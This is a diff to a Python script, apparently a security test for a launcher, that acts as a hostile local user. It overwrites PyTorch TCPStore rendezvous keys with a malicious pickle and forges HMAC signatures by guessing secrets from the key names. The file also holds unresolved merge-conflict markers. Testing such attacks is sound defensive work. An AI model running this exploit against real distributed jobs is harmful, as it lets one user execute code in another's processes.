@@ -1,6 +1,12 @@
+<<<<<<< HEAD
 """Another user of the node who has found a port of a job, and writes a hostile pickle under every key of its store.
+=======
+"""Another user of the node, who has found a port of a job: writes a hostile pickle under every key of a rendezvous.
+>>>>>>> s1
 
-It also signs the pickle with every word of the keys' names, in case one of them is the secret.
+It signs the pickle with every word of the keys' names, in case one of them is the secret. A victim reads the state
+every 0.1 s and ends if the signature is wrong. So if one of the words fits the signature of the victim's own state,
+only the pickle that is signed with it is written.
 
 Input: PORT MARKER. It imports torch as the user who starts it, and then becomes user 65534, who owns nothing. Output:
 the keys that it found, as JSON. MARKER is a folder that exists afterwards if a victim unpickled the data.
@@ -9,6 +15,7 @@ the keys that it found, as JSON. MARKER is a folder that exists afterwards if a 
 from __future__ import annotations
 
 import base64
+import binascii
 import contextlib
 import hmac
 import json
@@ -20,9 +27,9 @@ from datetime import timedelta
 
 from torch.distributed import TCPStore  # type: ignore[attr-defined] # torch marks no exports
 
-from numapin.launcher.rendezvous import public_id
-
 NOBODY = 65534
+_NUM_MAC_BYTES = 32
+_PLAIN_PICKLE = pickle.dumps(None)[:2]
 
 
 class _Exploit:
@@ -39,6 +46,22 @@ def _signed(state: bytes, run_id: str) -> bytes:
     return hmac.digest(run_id.encode(), state, "sha256") + state
 
 
+def _forgeries(state: bytes, words: set[str], exploit: bytes) -> list[bytes]:
+    """Return what to write in place of a state: what its readers take, or else everything that they might take."""
+    if state.startswith(_PLAIN_PICKLE):
+        return [exploit]
+    signed = {word: _signed(exploit, word) for word in words if word}
+    fitting = [signed[word] for word in signed if _signed(state[_NUM_MAC_BYTES:], word) == state]
+    return fitting or [*signed.values(), exploit]
+
+
+def _decoded(value: bytes) -> bytes:
+    try:
+        return base64.b64decode(value, validate=True)
+    except binascii.Error:  # an address or a port
+        return b""
+
+
 def main() -> None:
     """Attack as long as the store answers."""
     port, marker = int(sys.argv[1]), sys.argv[2]
@@ -51,16 +74,12 @@ def main() -> None:
         sys.stdout.write("[]")
         return
     exploit = pickle.dumps(_Exploit(marker))
-    ids = {word for key in keys for word in re.split(r"[/.]", key)}  # one of them may be the rendezvous id
-    forged = {f"torch.rendezvous.{public_id(word)}": _signed(exploit, word) for word in ids}
+    words = {word for key in keys for word in [key, *re.split(r"[/.]", key)]}  # one of them may be the rendezvous id
     for key in keys:
         if "torch.rendezvous" in key:
-            with contextlib.suppress(RuntimeError):
-                store.set(key, base64.b64encode(exploit).decode())
-    for key, state in forged.items():
-        if key in keys:
-            with contextlib.suppress(RuntimeError):
-                store.set(key, base64.b64encode(state).decode())
+            with contextlib.suppress(RuntimeError):  # the job has ended
+                for state in _forgeries(_decoded(store.get(key)), words, exploit):
+                    store.set(key, base64.b64encode(state).decode())
     sys.stdout.write(json.dumps(keys))
 
 
